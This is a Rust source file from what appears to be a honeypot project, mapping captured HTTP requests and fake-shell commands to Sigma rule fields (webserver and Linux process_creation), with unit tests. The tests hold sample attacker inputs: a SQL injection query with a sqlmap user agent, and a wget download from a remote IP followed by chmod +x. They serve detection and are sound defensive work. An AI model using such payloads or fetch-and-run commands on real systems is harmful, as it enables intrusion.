//! The two mappings that let public Sigma rules run unchanged on Nectar's
//! events (documented in README.md, "Rules").
//!
//! - `logsource: category: webserver` rules see every `http.request` with the
//!   W3C/IIS field names public rules use: `cs-method`, `cs-uri-stem`,
//!   `cs-uri-query`, `c-uri` (stem and query), `c-ip`, `cs-user-agent` and
//!   `c-useragent`, `cs-referer`, `cs-host`, `sc-status`. Keyword detections
//!   search the request line, the header values and the body preview.
//! - `logsource: product: linux, category: process_creation` rules see each
//!   simple command the fake shell ran (`data.processes` of `ssh.command`,
//!   `ssh.exec` and `telnet.command`) as one process: `Image` (the path the
//!   shell resolved, `/usr/bin/wget`), `CommandLine` (that command's words),
//!   `ParentImage` (the shell), `User`, `CurrentDirectory`. Keyword detections
//!   search the command line.
//!
//! Both views also answer every native field (`src_ip`, `data.x`, ...), so
//! correlations can group by them.

use std::borrow::Cow;

use nectar_event::{Event, Kind, field};
use rsigma_eval::event::{Event as SigmaEvent, EventValue};
use rsigma_parser::LogSource;
use serde_json::{Map, Value};

use crate::view::{NativeView, data_field};

/// The logsource of the web-server view.
pub fn webserver_logsource() -> LogSource {
    LogSource {
        category: Some("webserver".to_owned()),
        ..LogSource::default()
    }
}

/// The logsource of the process-creation view.
pub fn process_logsource() -> LogSource {
    LogSource {
        product: Some("linux".to_owned()),
        category: Some("process_creation".to_owned()),
        ..LogSource::default()
    }
}

/// Most processes one command line yields (the honeypot bounds them too).
pub const MAX_PROCESSES: usize = 32;

/// An `http.request` as a web server's access log line.
#[derive(Debug, Clone)]
pub struct WebserverView<'a> {
    event: &'a Event,
    native: NativeView<'a>,
}

impl<'a> WebserverView<'a> {
    /// The view, when `event` is an HTTP request.
    pub fn of(event: &'a Event) -> Option<WebserverView<'a>> {
        (event.kind == Kind::HttpRequest).then(|| WebserverView {
            event,
            native: NativeView::new(event),
        })
    }

    fn data_str(&self, key: &str) -> Option<&'a str> {
        self.event.data.get(key).and_then(Value::as_str)
    }

    fn header(&self, name: &str) -> Option<&'a str> {
        self.event
            .data
            .get("headers")?
            .as_array()?
            .iter()
            .filter_map(Value::as_array)
            .find(|pair| {
                pair.first()
                    .and_then(Value::as_str)
                    .is_some_and(|n| n.eq_ignore_ascii_case(name))
            })
            .and_then(|pair| pair.get(1)?.as_str())
    }

    fn visit(&self, visit: &mut dyn FnMut(&str)) {
        for key in [
            field::METHOD,
            field::PATH,
            "query",
            "version",
            "body_preview",
        ] {
            if let Some(s) = self.data_str(key) {
                visit(s);
            }
        }
        if let Some(headers) = self.event.data.get("headers").and_then(Value::as_array) {
            for pair in headers.iter().filter_map(Value::as_array) {
                if let Some(v) = pair.get(1).and_then(Value::as_str) {
                    visit(v);
                }
            }
        }
    }
}

fn s(v: Option<&str>) -> Option<EventValue<'_>> {
    v.map(|s| EventValue::Str(Cow::Borrowed(s)))
}

impl SigmaEvent for WebserverView<'_> {
    fn get_field(&self, path: &str) -> Option<EventValue<'_>> {
        match path {
            "cs-method" => s(self.data_str(field::METHOD)),
            "cs-uri-stem" => s(self.data_str(field::PATH)),
            "cs-uri-query" => s(self.data_str("query")),
            "c-uri" => {
                let stem = self.data_str(field::PATH)?;
                Some(match self.data_str("query").filter(|q| !q.is_empty()) {
                    Some(q) => EventValue::Str(Cow::Owned(format!("{stem}?{q}"))),
                    None => EventValue::Str(Cow::Borrowed(stem)),
                })
            }
            "c-ip" => self.native.field("src_ip"),
            "cs-user-agent" | "c-useragent" => s(self.data_str(field::USER_AGENT)),
            "cs-referer" => s(self.header("referer")),
            "cs-host" => s(self.data_str("host").or_else(|| self.header("host"))),
            "sc-status" => self
                .event
                .data
                .get("status")
                .map(|v| crate::view::value(v, 0)),
            "cs-version" => s(self.data_str("version")),
            _ => self.native.field(path),
        }
    }

    fn any_string_value(&self, pred: &dyn Fn(&str) -> bool) -> bool {
        let mut found = false;
        self.visit(&mut |s| found = found || pred(s));
        found
    }

    fn all_string_values(&self) -> Vec<Cow<'_, str>> {
        let mut out = Vec::new();
        self.visit(&mut |s| out.push(Cow::Owned(s.to_owned())));
        out
    }

    fn visit_string_values(&self, visit: &mut dyn FnMut(&str)) {
        self.visit(visit);
    }

    fn to_json(&self) -> Value {
        self.native.reference()
    }
}

/// One simple command the fake shell ran, as a process-creation record.
#[derive(Debug, Clone)]
pub struct ProcessView<'a> {
    event: &'a Event,
    native: NativeView<'a>,
    process: &'a Map<String, Value>,
}

impl<'a> ProcessView<'a> {
    /// The processes of a shell-command event, in the order they ran (none for
    /// other events, or when the command line was sealed).
    pub fn of(event: &'a Event) -> impl Iterator<Item = ProcessView<'a>> {
        let commands = matches!(
            event.kind,
            Kind::SshCommand | Kind::SshExec | Kind::TelnetCommand
        );
        commands
            .then(|| event.data.get("processes").and_then(Value::as_array))
            .flatten()
            .into_iter()
            .flatten()
            .filter_map(Value::as_object)
            .take(MAX_PROCESSES)
            .map(move |process| ProcessView {
                event,
                native: NativeView::new(event),
                process,
            })
    }

    fn str(&self, key: &str) -> Option<&'a str> {
        self.process.get(key).and_then(Value::as_str)
    }
}

impl SigmaEvent for ProcessView<'_> {
    fn get_field(&self, path: &str) -> Option<EventValue<'_>> {
        match path {
            "Image" => s(self.str("image")),
            "CommandLine" => s(self.str("command_line")),
            "ParentImage" => s(self.str("parent_image")),
            "CurrentDirectory" => s(self.str("cwd")),
            "User" => s(self.event.data.get(field::USERNAME).and_then(Value::as_str)),
            "OriginalFileName" => s(self
                .str("image")
                .map(|image| image.rsplit('/').next().unwrap_or(image))),
            _ => match data_field(self.process, path) {
                Some(v) => Some(crate::view::value(v, 0)),
                None => self.native.field(path),
            },
        }
    }

    fn any_string_value(&self, pred: &dyn Fn(&str) -> bool) -> bool {
        self.str("command_line").is_some_and(pred)
    }

    fn all_string_values(&self) -> Vec<Cow<'_, str>> {
        self.str("command_line")
            .map(|s| vec![Cow::Borrowed(s)])
            .unwrap_or_default()
    }

    fn to_json(&self) -> Value {
        self.native.reference()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use nectar_event::Severity;
    use serde_json::json;

    fn text(v: Option<EventValue<'_>>) -> Option<String> {
        v.and_then(|v| v.as_str().map(|s| s.into_owned()))
    }

    #[test]
    fn an_http_request_reads_like_an_access_log() {
        let mut e = Event::new("hp", Kind::HttpRequest, Severity::Info, "GET")
            .with("method", "GET")
            .with("path", "/index.php")
            .with("query", "id=1' OR '1'='1")
            .with("user_agent", "sqlmap/1.7")
            .with("status", 200)
            .with(
                "headers",
                json!([["Host", "www.example.org"], ["Referer", "http://x/"]]),
            );
        e.src_ip = Some("198.51.100.4".parse().unwrap());
        let v = WebserverView::of(&e).unwrap();
        assert_eq!(text(v.get_field("cs-method")).as_deref(), Some("GET"));
        assert_eq!(
            text(v.get_field("c-uri")).as_deref(),
            Some("/index.php?id=1' OR '1'='1")
        );
        assert_eq!(text(v.get_field("c-ip")).as_deref(), Some("198.51.100.4"));
        assert_eq!(text(v.get_field("cs-useragent")), None);
        assert_eq!(
            text(v.get_field("c-useragent")).as_deref(),
            Some("sqlmap/1.7")
        );
        assert_eq!(
            text(v.get_field("cs-referer")).as_deref(),
            Some("http://x/")
        );
        assert_eq!(
            text(v.get_field("cs-host")).as_deref(),
            Some("www.example.org")
        );
        assert_eq!(v.get_field("sc-status"), Some(EventValue::Int(200)));
        assert!(v.any_string_value(&|s| s.contains("OR '1'")));
        let other = Event::new("hp", Kind::SshCommand, Severity::Info, "");
        assert!(WebserverView::of(&other).is_none());
    }

    #[test]
    fn each_simple_command_is_a_process() {
        let e = Event::new("hp", Kind::SshCommand, Severity::Medium, "")
            .with("username", "root")
            .with(
                "processes",
                json!([
                    {"image": "/usr/bin/wget", "command_line": "wget http://203.0.113.9/x", "parent_image": "/bin/bash"},
                    {"image": "/usr/bin/chmod", "command_line": "chmod +x x", "parent_image": "/bin/bash"}
                ]),
            );
        let views: Vec<_> = ProcessView::of(&e).collect();
        assert_eq!(views.len(), 2);
        assert_eq!(
            text(views[0].get_field("Image")).as_deref(),
            Some("/usr/bin/wget")
        );
        assert_eq!(
            text(views[1].get_field("OriginalFileName")).as_deref(),
            Some("chmod")
        );
        assert_eq!(text(views[1].get_field("User")).as_deref(), Some("root"));
        assert_eq!(
            text(views[0].get_field("ParentImage")).as_deref(),
            Some("/bin/bash")
        );
        assert!(views[0].any_string_value(&|s| s.starts_with("wget ")));
    }
}
